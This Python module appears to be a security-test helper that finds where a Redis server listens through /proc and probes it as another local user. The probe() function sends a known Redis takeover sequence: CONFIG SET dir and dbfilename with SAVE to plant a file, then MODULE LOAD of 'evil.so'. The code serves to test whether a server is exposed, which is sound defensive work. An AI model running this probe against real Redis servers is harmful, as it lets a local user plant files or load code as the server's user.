"""What another local user can do to a Redis server: find where it listens, and try to take it over.

``listening`` reads a server's sockets from /proc (as ``ss -lp`` would); ``probe`` is the attack the issue's
probe ran, spoken in raw RESP with the standard library only, so that it also runs in a child that dropped
to another uid (``probe_as``), which cannot read this repository's virtual environment.
"""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

NOBODY = 65534
_LISTEN = "0A"  # TCP_LISTEN in /proc/net/tcp
_ACCEPTING = 0x10000  # __SO_ACCEPTCON in /proc/net/unix: a listening socket, not a connection to one


def listening(pid: int) -> tuple[list[tuple[str, int]], list[str]]:
    """(TCP ``(host, port)``s, unix socket paths) that process ``pid`` listens on. Linux; needs its owner or root."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        target = os.readlink(fd)
        if target.startswith("socket:["):
            inodes.add(target[len("socket:[") : -1])
    tcp = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            cols = line.split()
            if cols[3] == _LISTEN and cols[9] in inodes:
                host, port = cols[1].rsplit(":", 1)
                if table == "tcp6":
                    host = "::1"  # whatever it binds, loopback reaches it
                elif (host := socket.inet_ntoa(bytes.fromhex(host)[::-1])) == "0.0.0.0":
                    host = "127.0.0.1"
                tcp.append((host, int(port, 16)))
    unix = [cols[7] for line in Path(f"/proc/{pid}/net/unix").read_text().splitlines()[1:]
            if len(cols := line.split()) >= 8 and cols[6] in inodes and int(cols[3], 16) & _ACCEPTING]  # fmt: skip
    return tcp, unix


def _command(sock: socket.socket, *words: str) -> str:
    sock.sendall(f"*{len(words)}\r\n".encode() + b"".join(f"${len(w.encode())}\r\n{w}\r\n".encode() for w in words))
    return sock.recv(4096).decode(errors="replace").strip()


def probe(tcp: list[tuple[str, int]], unix: list[str], target_dir: str) -> dict[str, list[str]]:
    """Connect to every address and try CONFIG SET dir/dbfilename + SAVE (a file of our choosing, written as
    the server's user) and MODULE LOAD; returns each address's answers (or why it could not connect)."""
    results = {}
    places = [(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port)) for host, port in tcp]
    for family, address in [*places, *((socket.AF_UNIX, path) for path in unix)]:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(5)
                sock.connect(address)
                results[str(address)] = [
                    _command(sock, "CONFIG", "SET", "dir", target_dir),
                    _command(sock, "CONFIG", "SET", "dbfilename", "planted.rdb"),
                    _command(sock, "SAVE"),
                    _command(sock, "MODULE", "LOAD", os.path.join(target_dir, "evil.so")),
                    _command(sock, "DEBUG", "SLEEP", "0"),
                ]
        except OSError as err:
            results[str(address)] = [f"cannot connect: {err.strerror or err}"]
    return results


def probe_as(uid: int, tcp: list[tuple[str, int]], unix: list[str], target_dir: str) -> dict[str, list[str]]:
    """``probe`` from a forked child running as ``uid`` (group ``uid`` too, no other groups); needs root."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: plain system calls only, then _exit without running the parent's clean-ups
        code = 1
        try:
            os.close(read_end)
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            os.write(write_end, json.dumps(probe(tcp, unix, target_dir)).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as out:
        answer = out.read()
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) != 0:
        raise RuntimeError(f"the probe as uid {uid} failed")
    return json.loads(answer)
